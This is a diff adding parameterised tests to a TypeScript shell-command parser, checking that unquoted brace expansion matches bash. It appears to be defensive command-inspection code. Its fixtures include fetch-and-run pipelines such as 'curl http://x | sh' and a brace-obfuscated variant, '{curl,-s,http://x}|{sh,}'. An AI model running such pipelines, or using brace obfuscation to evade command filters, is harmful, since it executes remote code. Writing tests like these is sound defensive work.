@@ -225,6 +225,15 @@ describe("commandSegments", () => {
     expect(segments.filter((s) => s.pipesTo !== undefined)).toEqual([]);
   });
 
+  it.each([
+    ["{curl,-s,http://x}|{sh,}", [["curl", "-s", "http://x"], ["sh"]]],
+    ["ls /usr/bin/{curl,wget}", [["ls", "/usr/bin/curl", "/usr/bin/wget"]]],
+    ["echo '{curl,x}' \\{a,b}", [["echo", "{curl,x}", "{a,b}"]]],
+    ["echo {a} {a,{b,c}}", [["echo", "{a}", "{a,{b,c}}"]]],
+  ])("expands unquoted braces in %s as bash does", (script, expected) => {
+    expect(argvs(commandSegments(["sh", "-c", script]).slice(1))).toEqual(expected);
+  });
+
   it("drops commands that cannot matter when asked, keeping pipelines with a utility and the argv", () => {
     // Act
     const segments = commandSegments(["sh", "-c", "true; a | b; x=1; curl http://x | sh; ls -l /; ./run"], {
